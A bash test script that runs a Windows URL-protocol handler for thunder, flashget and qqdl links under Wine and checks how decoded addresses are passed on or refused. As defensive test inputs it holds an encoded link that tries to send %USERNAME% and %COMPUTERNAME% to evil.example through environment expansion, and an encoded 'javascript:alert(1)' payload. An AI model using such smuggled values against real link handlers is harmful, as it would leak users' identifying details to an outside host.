#!/usr/bin/env bash
# zentrova-open.exe as Windows runs it, under Wine in a Chinese locale: in a scratch prefix it is
# registered for thunder, flashget and qqdl as the installer registers it (under
# HKLM\Software\Classes, the only classes root where Wine 8 finds URL protocols), and stand-ins
# that write down what they are given are the programs for http, https, ftp and magnet.
# `wine start LINK` goes through the system's ShellExecute and must end with the stand-in
# holding exactly the escaped address; a link that does not open shows the box titled Zentrova
# and hands nothing on.
#   wine_start_test.sh ZENTROVA_OPEN RECORD_ARGUMENT
source "$(dirname "$0")/cases.sh"
program=$(realpath "$1")
recorder=$(realpath "$2")

export WINEPREFIX
WINEPREFIX=$(mktemp -d)
finish() {
  local status=$?
  set +e
  wineserver -k 2>/dev/null
  stop_display
  rm -rf "$WINEPREFIX"
  exit "$status"
}
trap finish EXIT
use_wine
# Wine keeps the display its first process found: none until the desktop below is up.
export DISPLAY=''

drive_c=$WINEPREFIX/drive_c
mkdir -p "$drive_c/Zentrova" "$drive_c/got"
cp "$program" "$drive_c/Zentrova/zentrova-open.exe"
cp "$recorder" "$drive_c/got/record.exe"
handler='"C:\Zentrova\zentrova-open.exe" "%1"'

reg() { timeout "$patience" "$wine64" reg "$@" >/dev/null 2>&1; }
# command_of SCHEME: the command registered to open SCHEME, as reg prints it (in code page 936).
command_of() {
  timeout "$patience" "$wine64" reg query "HKLM\\Software\\Classes\\$1\\shell\\open\\command" /ve 2>/dev/null |
    iconv -f GBK -t UTF-8 | tr -d '\r' | grep REG_SZ | sed 's/.*REG_SZ *//'
}
# register SCHEME COMMAND: SCHEME as a URL protocol opened by COMMAND.
register() {
  local key="HKLM\\Software\\Classes\\$1"
  reg add "$key" /ve /d "URL:$1" /f && reg add "$key" /v 'URL Protocol' /d '' /f &&
    reg add "$key\\DefaultIcon" /ve /d 'C:\Zentrova\zentrova-open.exe,0' /f &&
    reg add "$key\\shell\\open\\command" /ve /d "$2" /f || return 1
  [[ $(command_of "$1") == "$2" ]]
}
for scheme in thunder flashget qqdl; do
  register "$scheme" "$handler" || fail "$scheme could not be registered: $(command_of "$scheme")"
done
# stand_in NAME SCHEME...: each SCHEME opened by a program that appends its argument to
# C:\got\NAME.txt.
stand_in() {
  local name=$1 scheme
  shift
  for scheme in "$@"; do
    register "$scheme" "\"C:\\got\\record.exe\" \"C:\\got\\$name.txt\" \"%1\"" ||
      fail "the stand-in for $scheme could not be registered: $(command_of "$scheme")"
  done
}
stand_in browser http https ftp
stand_in torrents magnet
((failures)) && exit 1

# The box needs a display: the registry's processes, started without one, must be gone first.
timeout 900 wineserver -w
start_display 800x600 wm || exit 1

stand_ins=(browser torrents)
err=$drive_c/err
got_file() { echo "$drive_c/got/$1.txt"; }
open_link() { timeout "$patience" "$wine64" start /wait "$1" >"$err" 2>&1; }
all_ended() { timeout 900 wineserver -w; }

hand_each_kind handed

# ShellExecute puts the environment's "%NAME%" into the address it is given, as an address
# started directly shows; a link's address reaches the program with nothing expanded, and
# escapes that were there arrive as they were.
export ZENTROVA_PLANTED=planted BADC0DE=planted
thunder_of() { printf 'thunder://%s' "$(printf 'AA%sZZ' "$1" | base64 -w0)"; }
handed 'http://h/?v=%ZENTROVA_PLANTED%' browser 'http://h/?v=planted'
handed "$(thunder_of 'http://evil.example/?u=%USERNAME%&h=%COMPUTERNAME%&v=%ZENTROVA_PLANTED%')" \
  browser 'http://evil.example/?u=%25USERNAME%25&h=%25COMPUTERNAME%25&v=%25ZENTROVA_PLANTED%25'
handed "$(thunder_of 'http://h/%E4%B8%AD%20a.mkv?q=50%')" browser 'http://h/%E4%B8%AD%20a.mkv?q=50%25'

# refused HOW LINK [REASON]: LINK, through the system (HOW "start", as `wine start` opens it) or
# given to the program itself (HOW "direct", where its standard error is seen), shows the box
# titled Zentrova; once it is closed the program has ended with status 1, said REASON on
# standard error, and handed nothing on, and no program is left running. HOW "onward": through
# the system, where the program hands the address on and the next program refuses it (the
# first one, which `wine start` waits for, has succeeded).
refused() {
  forget_given
  local expected=1
  [[ $1 == onward ]] && expected=0
  if [[ $1 != direct ]]; then
    timeout $((patience * 2)) "$wine64" start /wait "$2" >"$drive_c/err" 2>&1 &
  else
    timeout $((patience * 2)) "$wine64" 'C:\Zentrova\zentrova-open.exe' "$2" >"$drive_c/err" 2>&1 &
  fi
  local opener=$!
  close_box
  case $? in
    1)
      fail "$2: no box"
      kill $opener 2>/dev/null
      wait $opener 2>/dev/null
      return
      ;;
    2) fail "$2: the box did not close" ;;
  esac
  wait $opener
  local status=$?
  ((status == 124)) && fail "$2: the program did not end"
  ((status == expected)) || fail "$2: ended with status $status, not $expected"
  timeout $((patience * 2)) wineserver -w || fail "$2: programs still run after the box closed"
  [[ -z ${3:-} ]] || grep -qF "$3" "$drive_c/err" || fail "$2: the reason is not '$3': $(cat "$drive_c/err")"
  given_only "$2"
}

refused start 'thunder://QUFqYXZhc2NyaXB0OmFsZXJ0KDEpWlo='
refuse_each_kind refused direct
# An escape that begins the name of a variable that is set ("%BA" of "%BADC0DE%") cannot be
# written otherwise: refused, through the system and directly, with the name.
refused start "$(thunder_of 'http://evil.example/%BADC0DE%')"
refused direct "$(thunder_of 'http://evil.example/%BADC0DE%')" '含有 %BADC0DE%'
# An http handler that is this program again: one refusal, no loop.
register http "$handler" || fail "http could not be given to the handler: $(command_of http)"
refused onward 'qqdl://aHR0cDovL2gvYS56aXA='
refused direct 'http://h/a.zip' '不是专用链接'

# No program for the address: the system's reason, and nothing started.
reg delete 'HKLM\Software\Classes\ftp' /f || fail "the stand-in for ftp could not be removed"
refused direct 'qqdl://ZnRwOi8vaC9hLnppcA==' 'Windows 无法打开 ftp://h/a.zip'

finish_tally
